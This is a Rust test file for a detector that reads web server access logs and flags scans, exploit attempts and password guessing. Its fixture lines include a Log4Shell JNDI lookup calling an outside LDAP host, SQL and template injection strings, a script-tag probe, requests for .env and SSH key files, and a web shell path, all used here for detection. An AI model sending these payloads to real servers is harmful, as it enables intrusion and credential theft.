//! Timed requests of visitors of web servers, and what is found in them.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use std::collections::BTreeMap;

use detect::{Config, Detector, Engine, Finding, Visitors};
use event::{Analyzed, EventId, JournalId, Position, Timestamp};
use proptest::prelude::*;

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const CRAWLER: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

fn engine() -> Engine {
    let config = Config::default();
    let visitors: Box<dyn Detector> = Box::new(Visitors::new(&config));
    Engine::with(config, vec![visitors])
}

fn see(engine: &mut Engine, lines: &[String]) {
    let zone = jiff::tz::TimeZone::UTC;
    let context = parse::Context::new(Timestamp::parse("2026-06-30T00:00:00Z").unwrap(), &zone, 1 << 16);
    for (number, line) in lines.iter().enumerate() {
        let position = Position { segment: 0, record: number as u32 };
        let id = EventId { journal: JournalId(1), position };
        engine.see_one(&Analyzed::unanalyzed(id, parse::line(line.as_bytes(), &context)));
    }
}

fn found(lines: &[String]) -> Vec<Finding> {
    let mut engine = engine();
    see(&mut engine, lines);
    engine.drain()
}

/// `rule about level count` of what was told last of each.
fn told(findings: &[Finding]) -> Vec<String> {
    let mut last = BTreeMap::new();
    for finding in findings {
        last.insert((&finding.rule, &finding.entities[0].value), (finding.level, finding.count));
    }
    let line = |((rule, about), (level, count)): ((&String, &String), (detect::Level, u64))| {
        format!("{rule} {about} {} {count}", level.as_str())
    };
    last.into_iter().map(line).collect()
}

#[track_caller]
fn check(name: &str, lines: &[String], expected: &[&str]) {
    assert_eq!(told(&found(lines)), expected, "{name}");
}

/// A line of an access log so many seconds behind midnight.
fn line(address: &str, second: u32, request: &str, status: u16, agent: &str) -> String {
    let time = format!("{:02}:{:02}:{:02}", second / 3600, second / 60 % 60, second % 60);
    format!("{address} - - [03/Jun/2026:{time} +0000] \"{request}\" {status} 9 \"-\" \"{agent}\"")
}

fn gets(address: &str, apart: u32, paths: &[&str], status: u16, agent: &str) -> Vec<String> {
    let one = |(n, path): (usize, &&str)| {
        line(address, n as u32 * apart, &format!("GET {path} HTTP/1.1"), status, agent)
    };
    paths.iter().enumerate().map(one).collect()
}

const WORDS: [&str; 12] = [
    "/alpha", "/beta", "/gamma", "/delta", "/epsilon", "/zeta", "/eta", "/theta", "/iota", "/kappa",
    "/lambda", "/mu",
];

#[test]
fn scans() {
    let at = "192.0.2.7";
    check(
        "four places of an application",
        &gets(at, 2, &["/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/pma/"], 404, "-"),
        &["web_scan 192.0.2.7 low 4"],
    );
    check("two are a stray", &gets(at, 2, &["/wp-login.php", "/wp-admin/"], 404, "-"), &[]);
    check("the same again says nothing", &gets(at, 2, &["/wp-login.php"; 40], 404, "-"), &[]);
    check(
        "over an hour they are strays",
        &gets(at, 1200, &["/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/pma/"], 404, "-"),
        &[],
    );
    check(
        "secrets",
        &gets(at, 2, &["/.env", "/.git/config", "/.ssh/id_rsa"], 404, "-"),
        &["web_scan 192.0.2.7 low 3"],
    );
    check(
        "secrets that are given out",
        &gets(at, 2, &["/.env", "/.git/config", "/.ssh/id_rsa"], 200, "-"),
        &["web_scan 192.0.2.7 medium 3"],
    );
    check("a tool", &gets(at, 1, &["/", "/a"], 200, "sqlmap/1.7"), &["web_scan 192.0.2.7 low 2"]);
    check("a tool, once", &gets(at, 1, &["/"], 200, "sqlmap/1.7"), &["web_scan 192.0.2.7 low 1"]);
    let authors: Vec<String> = (1..6).map(|number| format!("/?author={number}")).collect();
    let authors: Vec<&str> = authors.iter().map(String::as_str).collect();
    check("the names of users", &gets(at, 1, &authors, 301, BROWSER), &["web_scan 192.0.2.7 low 5"]);
    check("an author's page", &gets(at, 1, &authors[..4], 301, BROWSER), &[]);
    check("a dictionary", &gets(at, 1, &WORDS, 404, "gobust"), &["web_scan 192.0.2.7 low 10"]);
    let malformed: Vec<String> =
        (0..10).map(|n| line(at, n, &format!("\\x16\\x03\\x01\\x0{n}"), 400, "-")).collect();
    check("no requests at all", &malformed, &["web_scan 192.0.2.7 low 10"]);
}

#[test]
fn ordinary_visitors_are_let_be() {
    let at = "192.0.2.7";
    check("a search engine after a move", &gets(at, 1, &WORDS, 404, CRAWLER), &[]);
    let parts: Vec<String> = WORDS.iter().map(|word| format!("{word}.png")).collect();
    let parts: Vec<&str> = parts.iter().map(String::as_str).collect();
    check("a broken page", &gets(at, 1, &parts, 404, BROWSER), &[]);
    let usual = [
        "/favicon.ico",
        "/robots.txt",
        "/apple-touch-icon.png",
        "/sitemap.xml",
        "/.well-known/traffic-advice",
    ];
    check("what all ask for", &gets(at, 1, &usual, 404, BROWSER), &[]);
    let users: Vec<String> = (0..200).map(|n| format!("/api/users/{n}")).collect();
    let users: Vec<&str> = users.iter().map(String::as_str).collect();
    check("a client of an interface", &gets(at, 1, &users, 404, "python-requests/2.31"), &[]);
    let mut reader = gets(at, 1, &WORDS, 404, BROWSER);
    reader.extend(gets(at, 1, &["/start"; 30], 200, BROWSER));
    reader.sort_by_key(|line| line[..50].to_owned());
    check("somebody who finds most of it", &reader, &[]);
    let monitor: Vec<&str> = vec!["/health?q=select+one"; 500];
    check("monitoring", &gets(at, 10, &monitor, 200, "monitor/1"), &[]);
    let referred: Vec<String> = (0..12)
        .map(|n| {
            line(at, n, &format!("GET {} HTTP/1.1", WORDS[n as usize]), 404, BROWSER)
                .replace("\"-\" ", "\"http://a.example/\" ")
        })
        .collect();
    check("broken links of a page", &referred, &[]);
}

#[test]
fn exploits() {
    let at = "2001:db8::7";
    check(
        "one that is turned down",
        &gets(at, 1, &["/?x=${jndi:ldap://192.0.2.1/a}"], 404, "-"),
        &["web_exploit_attempt 2001:db8::7 low 1"],
    );
    check(
        "one that is answered",
        &gets(at, 1, &["/?id=1+union+select+1,2"], 200, "-"),
        &["web_exploit_attempt 2001:db8::7 medium 1"],
    );
    check(
        "a shell that is there",
        &gets(at, 1, &["/c99.php"], 200, "-"),
        &["web_exploit_attempt 2001:db8::7 high 1"],
    );
    let mut graver = gets(at, 1, &["/?x={{7*7}}", "/?x={{7*8}}"], 404, "-");
    graver.extend(gets(at, 1, &["/c99.php"], 200, "-"));
    check("it gets graver", &graver, &["web_exploit_attempt 2001:db8::7 high 3"]);
    let many: Vec<String> =
        ["a", "b", "c", "d", "e"].iter().map(|p| format!("/{p}?q=%3Cscript%3E")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    check(
        "many",
        &gets(at, 1, &many, 404, "-"),
        &["web_exploit_attempt 2001:db8::7 medium 5", "web_scan 2001:db8::7 low 3"],
    );
}

#[test]
fn guessing() {
    let at = "192.0.2.7";
    let posts = |path: &str, count: u32, apart: u32, status: u16| -> Vec<String> {
        (0..count).map(|n| line(at, n * apart, &format!("POST {path} HTTP/1.1"), status, BROWSER)).collect()
    };
    check("five refusals", &posts("/api/login", 5, 60, 401), &["web_auth_brute_force 192.0.2.7 medium 5"]);
    check("four", &posts("/api/login", 4, 60, 401), &[]);
    check(
        "a form that comes back",
        &posts("/wp-login.php", 5, 9, 200),
        &["web_auth_brute_force 192.0.2.7 medium 5"],
    );
    let mut with_success = posts("/wp-login.php", 6, 9, 200);
    with_success.push(line(at, 70, "POST /wp-login.php HTTP/1.1", 302, BROWSER));
    check("and then somebody is in", &with_success, &["web_auth_brute_force 192.0.2.7 high 6"]);
    check(
        "a form at a pace that nobody types",
        &posts("/portal/login", 6, 1, 200),
        &["web_auth_brute_force 192.0.2.7 low 6"],
    );
    check(
        "an interface for other programs at such a pace",
        &posts("/xmlrpc.php", 6, 1, 200),
        &["web_auth_brute_force 192.0.2.7 low 6"],
    );
    check("logins of many behind one address", &posts("/portal/login", 20, 30, 200), &[]);
    check("an interface that gives tokens", &posts("/api/login", 100, 1, 200), &[]);
    check("a browser that is asked for a password", &gets(at, 1, &["/private"; 20], 401, BROWSER), &[]);
    check("too many", &posts("/search", 5, 1, 429), &["web_rate 192.0.2.7 low 5"]);
    let said = |text: &str, count: usize| vec![format!("2026-06-03 00:00:00 WARN {text}"); count];
    check(
        "as an application says it",
        &said("Failed login attempt for user ann from 192.0.2.7", 5),
        &["web_auth_brute_force 192.0.2.7 medium 5"],
    );
    check("four times", &said("Failed login attempt for user ann from 192.0.2.7", 4), &[]);
    check(
        "an application that has seen enough",
        &said("in limiter: Authentication attempt from 192.0.2.7 has been rate-limited.", 1),
        &["web_auth_brute_force 192.0.2.7 medium 5"],
    );
}

#[test]
fn one_network_of_ipv6_counts_as_one_visitor() {
    let of = |host: usize| format!("2001:db8:1:2::{host:x}");
    let each = |count: usize, request: &str, status: u16, among: usize| -> Vec<String> {
        (0..count)
            .map(|n| {
                let request = request.replace("{n}", &char::from(b'a' + n as u8).to_string());
                line(&of(1 + n % among), n as u32 * 9, &request, status, "-")
            })
            .collect()
    };
    let scan = "GET /{n}/phpmyadmin/ HTTP/1.1";
    check("a scan of many addresses", &each(8, scan, 404, 8), &["web_scan 2001:db8:1:2::/64 low 8"]);
    check("of one address", &each(8, scan, 404, 1), &["web_scan 2001:db8:1:2::1 low 8"]);
    let post = "POST /api/login HTTP/1.1";
    check("guessing", &each(5, post, 401, 5), &["web_auth_brute_force 2001:db8:1:2::/64 medium 5"]);
    check("four", &each(4, post, 401, 4), &[]);
    check("guessing of one", &each(5, post, 401, 1), &["web_auth_brute_force 2001:db8:1:2::1 medium 5"]);
}

#[test]
fn what_programs_ask_every_site_for_is_told_of_the_site_once_it_came_to_no_more() {
    let told_at = |lines: &[String], time: &str| {
        let (mut engine, zone) = (engine(), jiff::tz::TimeZone::UTC);
        let now = Timestamp::parse("2026-06-03T00:10:00Z").unwrap();
        for (number, line) in lines.iter().enumerate() {
            let mut event = parse::line(line.as_bytes(), &parse::Context::new(now, &zone, 1 << 16));
            event.host = Some("gate".into());
            let position = Position { segment: 0, record: number as u32 };
            engine.see_one(&Analyzed::unanalyzed(EventId { journal: JournalId(1), position }, event));
        }
        engine.tick(Timestamp::parse(time).unwrap());
        engine.drain()
    };
    let few = gets("192.0.2.7", 30, &["/wp-login.php", "/index.html", "/.env"], 404, "-");
    assert_eq!(told(&told_at(&few, "2026-06-03T01:00:00Z")), Vec::<String>::new(), "there may come more");
    let found = told_at(&few, "2026-06-03T01:30:00Z");
    assert_eq!(told(&found), ["web_probes gate info 2"]);
    assert_eq!(found[0].facts["url.path"], serde_json::json!(["/wp-login.php", "/.env"]));
    assert!(found[0].entities.iter().any(|entity| entity.value == "192.0.2.7"));
    let many: Vec<String> = (b'a'..b'k').map(|n| format!("/{}/phpmyadmin/", char::from(n))).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    let scan = told_at(&gets("192.0.2.7", 9, &many, 404, "-"), "2026-06-03T01:30:00Z");
    assert_eq!(told(&scan), ["web_scan 192.0.2.7 low 10"], "a scan is told as one");
}

fn requests() -> impl Strategy<Value = Vec<String>> {
    let request = (0u32..4_000, 0u8..4, 0usize..18, prop::sample::select(vec![200u16, 401, 404]));
    let line = |(second, address, path, status): (u32, u8, usize, u16)| {
        let path = WORDS
            .iter()
            .chain(&["/.env", "/wp-login.php", "/c99.php", "/login", "/?q=1+or+1=1", "/pma"])
            .nth(path);
        let method = if status == 401 { "POST" } else { "GET" };
        line(
            &format!("192.0.2.{address}"),
            second,
            &format!("{method} {} HTTP/1.1", path.unwrap()),
            status,
            "-",
        )
    };
    prop::collection::vec(request, 0..120).prop_map(move |mut requests| {
        requests.sort_unstable();
        requests.into_iter().map(line).collect()
    })
}

proptest! {
    #[test]
    fn a_restart_changes_nothing(lines in requests(), cut in 0usize..120) {
        let cut = cut.min(lines.len());
        let (mut whole, mut first) = (engine(), engine());
        see(&mut whole, &lines);
        see(&mut first, &lines[..cut]);
        let mut second = engine();
        second.restore(&first.snapshot().unwrap()).unwrap();
        see(&mut second, &lines[cut..]);
        let told = |engine: &mut Engine| -> Vec<_> {
            engine.drain().into_iter().map(|finding| (finding.rule, finding.level, finding.entities, finding.count)).collect()
        };
        prop_assert_eq!(told(&mut whole), told(&mut second));
    }
}
